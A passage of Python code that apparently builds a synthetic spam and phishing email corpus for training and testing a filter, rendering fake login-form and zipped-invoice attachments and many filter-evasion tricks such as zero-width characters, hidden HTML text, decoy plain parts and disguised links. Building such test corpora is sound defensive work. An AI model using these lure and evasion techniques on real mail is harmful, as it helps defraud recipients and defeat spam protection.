        return common.binary_part(page.encode("utf-8"), "text/html", filename=name, filename_style=rng.choice(["b-utf-8", "b-euc-kr", "q-utf-8", "rfc2231"]))
    if kind == "redirect":
        page = REDIRECT_PAGE.format(action=action, encoded=base64.b64encode(action.encode()).decode(), victim=victim)
        name = base.options.get("filename", "Remittance_Advice.html")
        return common.binary_part(page.encode("utf-8"), "text/html", filename=name)
    if kind == "zip":
        inner = base.options.get("inner", "세금계산서_상세내역.html")
        page = LOGIN_FORM.format(brand=html.escape(brand), color="#0078d4", notice="문서를 보려면 로그인하세요.", action=action,
                                 ref="zip", victim=victim).encode("utf-8")
        name = base.options.get("filename", "invoice.zip")
        return common.binary_part(common.zip_bytes([(inner, page)]), rng.choice(["application/zip", "application/x-zip-compressed", "application/octet-stream"]),
                                  filename=name, filename_style=rng.choice(["b-utf-8", "rfc2231"]))
    if kind in ("png", "gif", "jpeg", "qr"):
        data, ctype, ext = random_image(rng, kind)
        name = base.options.get("filename", f"{rng.choice(['event', 'img', 'banner', 'photo', 'IMG_'])}{rng.randint(1, 9999):04d}.{ext}")
        return common.binary_part(data, ctype, filename=name)
    raise SystemExit(f"{base.ident}: unknown attachment {kind}")


# ---------------------------------------------------------------- headers


def message_date(rng: random.Random) -> str:
    start = datetime(2026, 8, 1, tzinfo=timezone.utc)
    moment = start + timedelta(seconds=rng.randrange(120 * 86400))
    offset = weighted(rng, [(9, 75), (8, 8), (0, 8), (-7, 4), (7, 3), (-5, 2)])
    local = moment.astimezone(timezone(timedelta(hours=offset)))
    return local.strftime("%a, %d %b %Y %H:%M:%S %z")


def message_id(rng: random.Random, domain: str) -> str:
    hexes = "".join(rng.choice("0123456789abcdef") for _ in range(24))
    style = rng.randrange(5)
    if style == 0:
        return f"<{hexes}@{domain}>"
    if style == 1:
        return f"<{rng.randint(1600000000, 1800000000)}.{rng.randint(1000, 99999)}.{hexes[:8]}@{domain}>"
    if style == 2:
        return f"<{hexes[:8]}-{hexes[8:12]}-{hexes[12:16]}-{hexes[16:20]}-{hexes}@{rng.choice(['smtp', 'mail', 'mx', 'web'])}.{domain}>"
    if style == 3:
        return f"<{hexes.upper()[:16]}$%{rng.randint(100, 999)}@{domain}>"
    return f"<{rng.randint(10**11, 10**12)}{hexes[:6]}@localhost.localdomain>"


def recipients(rng: random.Random) -> tuple[str, str]:
    roll = rng.random()
    first = rng.choice(RECIPIENTS) + "@" + OFFICE
    if roll < 0.12:
        return "undisclosed-recipients:;", first
    if roll < 0.25:
        many = rng.sample(RECIPIENTS, k=rng.randint(2, 5))
        return ", ".join(f"{r}@{OFFICE}" for r in many), f"{many[0]}@{OFFICE}"
    if roll < 0.35:
        return f"<{first}>", first
    return first, first


# ---------------------------------------------------------------- one message


@dataclass
class Rendering:
    data: bytes
    notes: list[str]


def render(base: Base, variant: int) -> Rendering:
    rng = random.Random(f"{base.ident}/{variant}")
    cat = base.category
    english = cat == "english"
    notes: list[str] = []
    subject, body = base.subject, base.body
    to_header, victim = recipients(rng)
    if "{victim}" in body:  # the recipient's address, as a lure names it (percent-encoded inside links)
        body = LINK.sub(lambda m: m.group(0).replace("{victim}", urllib.parse.quote(victim)), body).replace("{victim}", victim)
    keywords = KEYWORDS[cat] + [w for w in ascii_words(subject) if len(w) >= 5][:2] if english else KEYWORDS[cat]

    if cat == "adtag":
        tag = rng.choice(ADTAGS)
        if rng.random() < 0.18:
            subject = f"{subject} {tag.strip()}"
            notes.append("adtag-end")
        else:
            subject = f"{tag}{'' if rng.random() < 0.4 else ' '}{subject}"
            notes.append("adtag-start")
        notes.append("tag=" + tag.strip().encode("unicode_escape").decode("ascii").replace(" ", "_"))
        if base.options.get("footer", "yes") != "no" and rng.random() < 0.7:
            footer = rng.choice(AD_FOOTERS).format(
                phone=f"080-{rng.randint(200, 999)}-{rng.randint(1000, 9999)}", company=rng.choice(COMPANIES),
                ceo=rng.choice(CEOS), bizno=f"{rng.randint(100, 899)}-{rng.randint(10, 99)}-{rng.randint(10000, 99999)}",
                addr=rng.choice(ADDRESSES), sales=f"제2026-서울금천-{rng.randint(100, 3999):04d}호", date="2026년 10월 1일")
            body = f"{body}\n\n{'-' * rng.choice([20, 30, 40])}\n{footer}"
            notes.append("legal-footer")

    # Obfuscations on variants (and on a few originals of the categories that live on them).
    heavy = cat in ("gambling", "adult", "pharma", "loan", "stock")
    tricks: list[str] = []
    if variant > 0 or (heavy and rng.random() < 0.15):
        pool = ["spacing", "latin", "jamo", "halfwidth", "zerowidth", "fullwidth", "emoji", "poison", "spread"]
        if english:
            pool = ["oddcase", "fullwidth", "zerowidth", "spacing", "poison", "emoji"]
        tricks = rng.sample(pool, k=rng.choice([1, 1, 2, 2, 3]))
    for trick in tricks:
        if trick in TEXT_TRICKS:
            share = rng.choice([0.5, 0.8, 1.0] if heavy else [0.3, 0.6, 1.0])
            subject = obfuscate_words(subject, keywords, TEXT_TRICKS[trick], rng, 1.0 if rng.random() < 0.5 else share)
            body = obfuscate_words(body, keywords, TEXT_TRICKS[trick], rng, share)
            if trick == "fullwidth" and rng.random() < 0.6:
                for word in ascii_words(subject)[:2]:
                    subject = subject.replace(word, common.fullwidth(word), 1)
        elif trick == "spread":
            subject, body = spread_out(subject, rng), "\n".join(
                spread_out(line, rng) if line and not LINK.search(line) and rng.random() < 0.5 else line
                for line in body.split("\n"))
            body = sprinkle_emoji(body, rng)
            subject = f"{rng.choice(EMOJI)} {subject}" if rng.random() < 0.7 else f"{subject} {rng.choice(EMOJI)}"
    notes.extend(tricks)
    subject, body = dress(subject, body, "foreign" if "charset" in base.options else cat, victim, rng, notes)
    if cat in ("phishing", "english") and variant > 0:
        def rewrite(match: re.Match) -> str:
            if not match.group(2):
                return match.group(0)
            href, note = disguise_href(match.group(2), rng)
            notes.append(note)
            return f"[{match.group(1)}]({href.replace('{victim}', urllib.parse.quote(victim))})"
        body = LINK.sub(rewrite, body)

    # Shape of the message.
    image_kind = base.options.get("image")
    attach_kinds = [k for k in base.options.get("attach", "").split(",") if k]
    force = base.options.get("shape")
    shape = force or weighted(rng, SHAPES)
    if shape == "related" and not image_kind:
        image_kind = rng.choice(["png", "gif", "jpeg"])
    if cat == "phishing" and not force and shape == "plain" and "[" in body:
        shape = rng.choice(["html", "alternative"])
    if image_kind and shape in ("plain",):
        shape = "related"

    poison_text = None
    if "poison" in tricks:
        poison_text = poison(rng, english)
    hidden = None
    html_trick = None
    white = None
    if shape != "plain" and (variant > 0 or rng.random() < 0.1):
        extra = rng.sample(["ncr", "comment", "hiddenspan", "emptytag", "hiddenblock", "whitetext", None],
                           k=rng.choice([1, 1, 2]))
        for choice in extra:
            if choice in HTML_WORD_TRICKS and not html_trick:
                html_trick = choice
                notes.append("html-" + choice)
            elif choice == "hiddenblock":
                hidden = poison(rng, english, rng.randint(4, 10))
                notes.append("html-hidden-text")
            elif choice == "whitetext":
                white = poison(rng, english, rng.randint(3, 8))
                notes.append("html-white-text")

    if "hidden" in base.options:
        # The text's own dilution: a hidden block of innocent business words the reader never sees.
        hidden = base.options["hidden"]
        notes.append("html-hidden-own")

    # Charset / transfer encoding.
    charset, cte, declare = weighted(rng, BODY_ENCODINGS)
    if english and charset != "utf-8" and rng.random() < 0.7:
        charset, cte, declare = rng.choice([("us-ascii", "7bit", "same"), ("utf-8", "quoted-printable", "same"),
                                            ("utf-8", "base64", "same")])
    if "charset" in base.options:  # Chinese and Japanese spam arrives in its own legacy charsets
        charset, cte, declare = base.options["charset"], rng.choice(["base64", "8bit", "base64"]), "same"
        if charset == "iso-2022-jp":
            cte = "7bit"
    all_text = body + (poison_text or "") + (hidden or "") + (white or "")
    actual = common.pick_charset(all_text, charset) if charset != "us-ascii" or all_text.isascii() else "utf-8"
    if actual != charset:
        if declare not in (None, "same"):
            declare = "same"
        charset = actual
    if charset == "utf-8" and declare == "ks_c_5601-1987":
        declare = "same"
    label = "undeclared" if declare is None else (charset if declare == "same" else f"{declare}(bytes:{charset})")
    notes.append(f"body={label}/{cte}")

    sender_addr = base.sender_addr
    if variant > 0 and cat != "phishing" and rng.random() < 0.5:
        sender_addr = rotated_sender(rng)
        notes.append("sender-rotated")
    domain = sender_addr.split("@")[-1]
    plain_body = plain_links(body)
    if poison_text:
        sep = rng.choice(["\n\n\n\n", "\n\n" + "." * rng.randint(1, 40) + "\n", "\n\n\n" + " " * 30 + "\n\n"])
        plain_body = plain_body + sep + poison_text
    boundary = rng.choice(["----=_NextPart_", "----=_Part_", "=_alt_", "--boundary_", "_----------="]) + \
        "".join(rng.choice("0123456789ABCDEFabcdef") for _ in range(rng.choice([16, 24, 28])))

    image_layout = None
    if any(option in base.options for option in IMAGE_LAYOUT_OPTIONS):
        image_layout = ImageLayout(alt=base.options.get("alt", ""), sources=base.options.get("remote", "").split(),
                                   map_links=base.options.get("map", "").split(), background="background" in base.options)
        notes.extend(note for option, note in [("alt", "image-alt"), ("remote", "image-remote"), ("map", "image-map"),
                                               ("background", "image-background"), ("imgname", "image-name")]
                     if option in base.options)

    def html_part(cid: str | None = None, link: str | None = None) -> common.Part:
        if image_layout and not link:
            link = base.options.get("link")
        page = to_html(body + ("\n\n" + poison_text if poison_text and rng.random() < 0.5 else ""), keywords,
                       html_trick, rng, hidden, cid, link, white, image_layout)
        if base.options.get("encode") == "ncr":
            # Every Hangul syllable of the visible text as a numeric character reference.
            page = re.sub(r">([^<]+)<", lambda m: ">" + re.sub(r"[\uac00-\ud7a3]", lambda c: f"&#{ord(c.group(0))};", m.group(1)) + "<", page)
        own = charset if common.can_encode(page, charset) else "utf-8"
        own_declare = declare if own == charset else "same"
        page = page.replace("{charset}", own if own_declare == "same" else (own_declare or "utf-8"))
        return common.text_part(page, "html", own, cte, own_declare)

    def plain_part() -> common.Part:
        own = charset if common.can_encode(plain_body, charset) else "utf-8"
        return common.text_part(plain_body, "plain", own, cte, declare if own == charset else "same")

    if shape == "plain":
        root = plain_part()
    elif shape == "html":
        root = html_part()
    elif shape == "alternative":
        if variant > 0 and rng.random() < 0.2:
            # The text part a filter may read is innocent; the HTML the reader sees is the spam.
            decoy = poison(rng, english, rng.randint(4, 9))
            own = charset if common.can_encode(decoy, charset) else "utf-8"
            decoy_part = common.text_part(decoy, "plain", own, cte, declare if own == charset else "same")
            root = common.multipart("alternative", [decoy_part, html_part()], boundary)
            notes.append("decoy-plain")
        else:
            root = common.multipart("alternative", [plain_part(), html_part()], boundary)
    else:  # related: HTML with an inline image
        kind = image_kind or "png"
        cid = f"{rng.choice(['image', 'img', 'part1', 'banner'])}{rng.randint(1, 999):03d}.{rng.randint(10**7, 10**8)}@{rng.choice([domain, 'mail'])}"
        data, ctype, ext = random_image(rng, kind)
        link = base.options.get("link") or (LINK.search(body).group(2) or LINK.search(body).group(3) if LINK.search(body) else None)
        image_name = f"{rng.choice(['image', 'ad', 'banner', 'event'])}{rng.randint(1, 99)}.{ext}"
        disposition = rng.choice(["inline", None])
        if image_layout and "imgname" in base.options:
            image_name = base.options["imgname"]
        image = common.binary_part(data, ctype, filename=image_name, content_id=cid, disposition=disposition,
                                   filename_style="rfc2231" if image_layout and rng.random() < 0.5 else "b-utf-8")
        slices = []
        if image_layout and not image_layout.sources:
            # A banner cut into slices arrives as several inline images stacked without gaps.
            image_layout.sources = [f"cid:{cid}"]
            for number in range(2, int(base.options.get("slices", "1")) + 1):
                slice_cid = f"slice{number:02d}.{rng.randint(10**7, 10**8)}@{domain}"
                slice_data, slice_type, slice_ext = random_image(rng, kind)
                slices.append(common.binary_part(slice_data, slice_type, filename=f"{image_name.rsplit('.', 1)[0]}_{number:02d}.{slice_ext}",
                                                 content_id=slice_cid, disposition=disposition, filename_style="rfc2231"))
                image_layout.sources.append(f"cid:{slice_cid}")
            if slices:
                notes.append(f"image-slices={len(slices) + 1}")
        related = common.multipart("related", [html_part(cid, link), image, *slices], boundary + "_rel", '; type="text/html"')
        if rng.random() < 0.4 and body.strip():
            root = common.multipart("alternative", [plain_part(), related], boundary)
            notes.append("alternative+related")
        else:
            root = related
        notes.append("inline-" + kind)
    if attach_kinds:
        attachments = [attachment(kind, base, rng, victim) for kind in attach_kinds]
        root = common.multipart("mixed", [root, *attachments], boundary + "_mix")
        notes.extend("attach-" + k for k in attach_kinds)
    if base.options.get("encode") == "ncr" and shape != "plain":
        notes.append("html-ncr-all")
    notes.insert(0, f"shape={shape}")

    subject_style = weighted(rng, SUBJECT_STYLES)
    if english:
        subject_style = rng.choice(["raw", "raw", "b-utf-8", "q-utf-8"])
    if "charset" in base.options:
        subject_style = rng.choice(["b-", "b-", "q-"]) + base.options["charset"]
    notes.append(f"subject={subject_style}")
    name_style = subject_style if rng.random() < 0.7 else weighted(rng, SUBJECT_STYLES)
    headers = [
        ("From", common.address_header(base.sender_name, sender_addr, name_style)),
        ("To", to_header),
        ("Subject", common.header_text(subject, subject_style)),
        ("Date", message_date(rng)),
        ("Message-ID", message_id(rng, domain)),
    ]
    if "reply-to" in base.options:
        headers.append(("Reply-To", base.options["reply-to"]))
    elif rng.random() < 0.08:
        local = base.sender_addr.split("@")[0].split(".")[0][:10] + str(rng.randint(1, 999))
        headers.append(("Reply-To", f"{local}@{rng.choice(['gmail.com', 'naver.com', 'outlook.com', 'daum.net', 'proton.me'])}"))
        notes.append("reply-to-elsewhere")
    if rng.random() < 0.2:
        headers.append(("X-Mailer", rng.choice(MAILERS)))
    if rng.random() < 0.5:
        rng.shuffle(headers)
    return Rendering(common.render_message(headers, root), notes)


def variant_count(base: Base) -> int:
    rng = random.Random(f"{base.ident}/variants")
    share = {"gambling": 0.7, "adult": 0.7, "pharma": 0.7, "loan": 0.6, "stock": 0.6, "adtag": 0.45,
             "listseller": 0.4, "scam": 0.4, "phishing": 0.35, "imageonly": 0.3, "english": 0.35}[base.category]
    count = 1
    if rng.random() < share:
        count += 1
        if rng.random() < share / 2.5:
            count += 1
    return count


def main() -> None:
    for split in ("train", "heldout"):
        target = CORPUS / split / "spam"
        if target.exists():
            shutil.rmtree(target)
        target.mkdir(parents=True)
    rows = ["file\tbase\tsplit\tvariant\ttricks"]
    totals: dict[tuple[str, str], int] = {}
    bases_per: dict[tuple[str, str], int] = {}
    for category in CATEGORIES:
        counter = 0
        for base in parse_texts(category):
            split = "heldout" if base.heldout else "train"
            bases_per[(category, split)] = bases_per.get((category, split), 0) + 1
            for variant in range(variant_count(base)):
                counter += 1
                rendering = render(base, variant)
                name = f"{category}-{counter:03d}.eml"
                (CORPUS / split / "spam" / name).write_bytes(rendering.data)
                rows.append(f"{split}/spam/{name}\t{base.ident}\t{split}\t{variant}\t{' '.join(rendering.notes)}")
                totals[(category, split)] = totals.get((category, split), 0) + 1
    MANIFEST.write_text("\n".join(rows) + "\n", "utf-8")
    print(f"{'category':<12}{'bases tr/ho':>14}{'files tr/ho':>14}")
    for category in CATEGORIES:
        b = f"{bases_per.get((category, 'train'), 0)}/{bases_per.get((category, 'heldout'), 0)}"
        f = f"{totals.get((category, 'train'), 0)}/{totals.get((category, 'heldout'), 0)}"
        print(f"{category:<12}{b:>14}{f:>14}")
    print(f"{'total':<12}{sum(bases_per.values()):>14}{sum(totals.values()):>14}")


if __name__ == "__main__":
    main()
